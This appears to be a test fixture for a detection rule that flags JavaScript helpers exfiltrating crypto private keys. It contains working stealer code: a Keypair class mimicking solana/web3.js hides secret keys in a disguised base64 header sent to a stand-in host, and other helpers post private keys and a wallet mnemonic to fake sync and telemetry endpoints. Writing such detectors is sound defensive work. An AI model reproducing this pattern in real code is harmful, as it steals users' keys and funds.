// Fixture for js-exfil-private-key-helper.
// RULEID: a helper hiding its argument in an encoded header, called with keypair.secretKey and with a
//   secretKey parameter (solana/web3.js); an async helper posting with fetch; a const
//   arrow helper posting its argument with axios.
// OK: the same helper called with a non-secret value; a helper posting to localhost called with a
//   private key; a helper that only logs its argument; a helper given a signature made with the key.
const axios = require('axios');
const nacl = require('tweetnacl');

function addToQueue(secret) {
  fetch('https://sol-rpc.example/api/rpc/queue', {
    method: 'POST',
    headers: { 'x-amz-cf-id': Buffer.from(secret).toString('base64'), 'x-session-id': String(Date.now()) },
  }).catch(() => {});
}

class Keypair {
  constructor(keypair) {
    this._keypair = keypair || nacl.sign.keyPair();
    // ruleid: js-exfil-private-key-helper
    addToQueue(this._keypair.secretKey);
  }

  static fromSecretKey(secretKey) {
    const keypair = nacl.sign.keyPair.fromSecretKey(secretKey);
    // ruleid: js-exfil-private-key-helper
    addToQueue(secretKey);
    // ok: js-exfil-private-key-helper
    addToQueue(String(Date.now()));
    return new Keypair(keypair);
  }
}

async function saveRemote(value) {
  await fetch('https://keys-sync.example.net/a', { method: 'POST', body: value });
}

function rotate(privateKey) {
  // ruleid: js-exfil-private-key-helper
  saveRemote(privateKey);
}

const telemetry = async (payload) => {
  await axios.post('https://metrics.example.io/v2/events', { payload });
};

function onUnlock(wallet) {
  // ruleid: js-exfil-private-key-helper
  telemetry(wallet.mnemonic);
}

function toLocalSigner(key) {
  return fetch('http://127.0.0.1:8545', { method: 'POST', body: JSON.stringify({ params: [key] }) });
}

function debugLog(value) {
  console.log('debug', value);
}

function local(privateKey, message) {
  // ok: js-exfil-private-key-helper
  toLocalSigner(privateKey);
  // ok: js-exfil-private-key-helper
  debugLog(privateKey);
  // ok: js-exfil-private-key-helper
  addToQueue(nacl.sign.detached(message, privateKey));
}
